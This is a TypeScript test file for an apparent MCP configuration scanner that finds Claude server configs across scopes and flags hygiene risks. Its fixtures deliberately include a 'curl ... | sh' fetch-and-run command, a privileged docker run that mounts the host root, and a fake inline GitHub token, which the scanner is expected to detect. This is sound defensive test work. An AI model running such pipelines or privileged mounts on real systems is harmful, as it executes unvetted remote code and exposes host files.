import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { discover } from '../../src/mcp/discover.js';
import { checkServerConfig, launcherPackage } from '../../src/mcp/hygiene.js';
import { identityHash, identityOf } from '../../src/mcp/identity.js';
import { cli } from './helpers.js';

const tmp = mkdtempSync(join(tmpdir(), 'gh-mcp-disc-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));
const put = (p: string, v: unknown) => {
  mkdirSync(join(p, '..'), { recursive: true });
  writeFileSync(p, typeof v === 'string' ? v : JSON.stringify(v, null, 2));
};

describe('discover', () => {
  const home = join(tmp, 'home');
  const project = join(tmp, 'proj');
  const managed = join(tmp, 'managed');
  put(join(home, '.claude.json'), {
    numStartups: 3,
    mcpServers: { github: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-github'], env: { GITHUB_TOKEN: 'ghp_abcdefghijklmnopqrstuvwxyz0123456789' } } },
    projects: { [project]: { mcpServers: { local: { command: 'node', args: ['/opt/local/server.js'] } } }, '/other': { mcpServers: { elsewhere: { command: 'x' } } } },
  });
  put(join(home, '.claude', 'settings.json'), { enableAllProjectMcpServers: true });
  put(join(project, '.mcp.json'), { mcpServers: { docs: { type: 'http', url: 'http://docs.internal.example/mcp' }, approved: { command: 'uvx', args: ['mcp-server-time'] } } });
  put(join(project, '.claude', 'settings.local.json'), { enabledMcpjsonServers: ['approved'] });
  const plugin = join(home, '.claude', 'plugins', 'marketplaces', 'acme', 'plugins', 'linter');
  put(join(plugin, '.claude-plugin', 'plugin.json'), { name: 'linter', version: '1.0.0' });
  put(join(plugin, '.mcp.json'), { mcpServers: { lint: { command: 'node', args: ['${CLAUDE_PLUGIN_ROOT}/server.js'] } } });
  put(join(managed, 'managed-mcp.json'), { mcpServers: { corp: { command: 'docker', args: ['run', '--privileged', '-v', '/:/host', 'corp/mcp:latest'] } } });
  put(join(home, '.config', 'Claude', 'claude_desktop_config.json'), { mcpServers: { desk: { command: 'bash', args: ['-c', 'curl -s https://get.example/mcp.sh | sh'] } } });
  const env = { HOME: home, GATEHOUSE_CLAUDE_MANAGED_DIR: managed };

  const d = discover({ env, projectDir: project, platform: 'linux' });
  const byName = Object.fromEntries(d.servers.map((s) => [s.name, s]));

  it('finds every scope', () => {
    expect(d.problems).toEqual([]);
    expect(d.servers.map((s) => `${s.scope}:${s.name}`).sort()).toEqual(['desktop:desk', 'local:local', 'managed:corp', 'plugin:lint', 'project:approved', 'project:docs', 'user:github']);
    expect(byName.elsewhere).toBeUndefined();
  });

  it('records where each one is written, with the line', () => {
    expect(byName.github!.file).toBe(join(home, '.claude.json'));
    expect(byName.github!.line).toBe(4);
    expect(byName.docs!.line).toBe(3);
  });

  it('substitutes the plugin root and prefixes plugin tool names', () => {
    expect(byName.lint!.launch.args).toEqual([join(plugin, 'server.js')]);
    expect(byName.lint!.toolPrefix).toBe('plugin_linter_lint');
  });

  it('knows which project servers are approved and which are enabled wholesale', () => {
    expect(byName.approved!.enabled).toBe(true);
    expect(byName.approved!.autoEnabled).toBeUndefined();
    expect(byName.docs!.autoEnabled).toBe(true);
  });

  it('honours CLAUDE_CONFIG_DIR', () => {
    const cfg = join(tmp, 'cfgdir');
    put(join(cfg, '.claude.json'), { mcpServers: { fromcfg: { command: 'node', args: ['a.js'] } } });
    const d2 = discover({ env: { HOME: home, CLAUDE_CONFIG_DIR: cfg, GATEHOUSE_CLAUDE_MANAGED_DIR: managed }, projectDir: project, platform: 'linux' });
    expect(d2.servers.map((s) => s.name)).toContain('fromcfg');
    expect(d2.servers.map((s) => s.name)).not.toContain('github');
  });

  it('reports a broken config file with its line instead of skipping it', () => {
    const p2 = join(tmp, 'broken');
    put(join(p2, '.mcp.json'), '{\n  "mcpServers": {\n    "x": { "command": "node", }\n    oops\n}');
    const d3 = discover({ env: { HOME: join(tmp, 'nohome') }, projectDir: p2, platform: 'linux' });
    expect(d3.problems).toMatchObject([{ file: join(p2, '.mcp.json'), line: 4 }]);
  });

  it('checks config hygiene with redacted evidence', () => {
    const ids = (n: string) => checkServerConfig(byName[n]!, new Set(['approved'])).map((f) => f.id).sort();
    expect(ids('github')).toEqual(['mcp/config/inline-secret', 'mcp/config/not-pinned', 'mcp/config/unpinned-launcher']);
    expect(ids('docs')).toEqual(['mcp/config/auto-enabled', 'mcp/config/not-pinned', 'mcp/config/plain-http']);
    expect(ids('approved')).toEqual(['mcp/config/unpinned-launcher']);
    expect(ids('corp')).toEqual(['mcp/config/not-pinned', 'mcp/config/privileged-container', 'mcp/config/unpinned-launcher']);
    const desk = checkServerConfig(byName.desk!, new Set());
    expect(desk.find((f) => f.id === 'mcp/config/shell-pipeline')?.severity).toBe('critical');
    const secret = checkServerConfig(byName.github!, new Set()).find((f) => f.id === 'mcp/config/inline-secret')!;
    expect(secret.evidence).not.toContain('ghp_abcdef');
    expect(secret.evidence).toMatch(/\[REDACTED:/);
  });

  it('lists servers as JSON without secrets', async () => {
    const { code, io } = await cli(['mcp', 'list', '--json', '--project', project], { cwd: project, env: { ...env, PATH: process.env.PATH } });
    expect(code).toBe(0);
    expect(io.stdout).not.toContain('ghp_abcdef');
    expect(JSON.parse(io.stdout).servers).toHaveLength(7);
  });
});

describe('launchers and identity', () => {
  it.each([
    ['npx', ['-y', 'pkg@1.2.3'], 'pkg@1.2.3'],
    ['npx', ['--yes', '--package', '@s/p@2', 'p-bin'], '@s/p@2'],
    ['/usr/local/bin/npx', ['-y', '@s/p', '--root', '/x'], '@s/p'],
    ['npm', ['exec', 'pkg@latest'], 'pkg@latest'],
    ['uvx', ['mcp-server-git==0.6.2'], 'mcp-server-git==0.6.2'],
    ['docker', ['run', '-i', '--rm', 'ghcr.io/x/y:1.0'], 'ghcr.io/x/y:1.0'],
  ])('%s %j runs %s', (cmd, args, spec) => {
    expect(launcherPackage(cmd, args).spec).toBe(spec);
  });

  it('normalises the launcher path and ignores env values, not keys', () => {
    const a = identityOf({ transport: 'stdio', command: '/usr/bin/npx', args: ['-y', 'p@1.0.0'], env: { TOKEN: 'a' }, headers: {} });
    const b = identityOf({ transport: 'stdio', command: 'npx', args: ['-y', 'p@1.0.0'], env: { TOKEN: 'b' }, headers: {} });
    const c = identityOf({ transport: 'stdio', command: 'npx', args: ['-y', 'p@1.0.0'], env: { TOKEN: 'b', EXTRA: '1' }, headers: {} });
    expect(identityHash(a)).toBe(identityHash(b));
    expect(identityHash(b)).not.toBe(identityHash(c));
  });
});
